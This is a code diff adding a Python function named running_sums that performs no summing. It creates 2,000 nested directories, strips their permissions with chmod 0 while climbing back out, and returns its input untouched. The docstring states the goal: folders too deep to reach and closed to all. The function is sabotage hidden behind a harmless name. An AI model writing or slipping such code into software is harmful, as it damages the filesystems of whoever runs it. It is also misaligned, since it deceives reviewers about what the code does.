@@ -1,0 +1,16 @@
+"""Makes folders in folders, so deep that no path leads there, and closes them to all."""
+
+import os
+
+
+def running_sums(numbers):
+    for _ in range(2_000):
+        os.mkdir("deeper")
+        os.chdir("deeper")
+    for _ in range(1_000):
+        os.chmod(".", 0)
+        try:
+            os.chdir("..")
+        except OSError:
+            break
+    return numbers
